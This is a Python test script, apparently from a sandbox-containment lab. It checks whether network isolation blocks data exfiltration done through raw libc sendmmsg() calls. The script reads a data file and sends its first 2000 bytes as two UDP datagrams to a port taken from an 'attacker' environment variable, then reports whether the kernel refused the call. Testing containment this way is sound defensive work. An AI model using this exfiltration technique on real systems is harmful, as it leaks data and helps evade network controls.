# lab:title: Exfiltration by UDP sendmmsg(), two datagrams in one call
# lab:threat: exfil
# lab:layer: network
# lab:consequence: test
# adversary: --on all => CONTAINED network ~ sendmmsg
# adversary: --on network => CONTAINED network ~ sendmmsg
# adversary: --off network => BROKE
"""sendmmsg(): many datagrams, each with its address inside its own
struct msghdr, in one call (through libc: Python has no wrapper). With
the network open the datagrams go out to a port where nothing takes UDP
(BROKE); with No-network on the namespace refuses the first, and the lab
must see it. Prints each message's msg_len as the call left it."""
import ctypes
import os
import socket
import struct
import urllib.parse

u = urllib.parse.urlsplit(os.environ["LAB_ATTACKER"])
body = open(os.environ["LAB_DATA"], "rb").read()


class Iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]


class Msghdr(ctypes.Structure):
    _fields_ = [("name", ctypes.c_void_p), ("namelen", ctypes.c_uint32), ("iov", ctypes.POINTER(Iovec)),
                ("iovlen", ctypes.c_size_t), ("control", ctypes.c_void_p), ("controllen", ctypes.c_size_t),
                ("flags", ctypes.c_int)]


class Mmsghdr(ctypes.Structure):
    _fields_ = [("hdr", Msghdr), ("len", ctypes.c_uint)]


libc = ctypes.CDLL(None, use_errno=True)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
addr = ctypes.create_string_buffer(struct.pack("!HH4s8x", socket.AF_INET, u.port or 80, socket.inet_aton("127.0.0.1")))
addr[0:2] = struct.pack("=H", socket.AF_INET)
parts = [ctypes.create_string_buffer(body[0:1000]), ctypes.create_string_buffer(body[1000:2000])]
iovs = [Iovec(ctypes.cast(p, ctypes.c_void_p), 1000) for p in parts]
msgs = (Mmsghdr * 2)()
for i in range(2):
    msgs[i].hdr.name = ctypes.cast(addr, ctypes.c_void_p)
    msgs[i].hdr.namelen = 16
    msgs[i].hdr.iov = ctypes.pointer(iovs[i])
    msgs[i].hdr.iovlen = 1
n = libc.sendmmsg(s.fileno(), msgs, 2, 0)
if n < 0:
    print("refused:", os.strerror(ctypes.get_errno()), flush=True)
else:
    print("sent", n, "msg_len", [msgs[i].len for i in range(2)], flush=True)
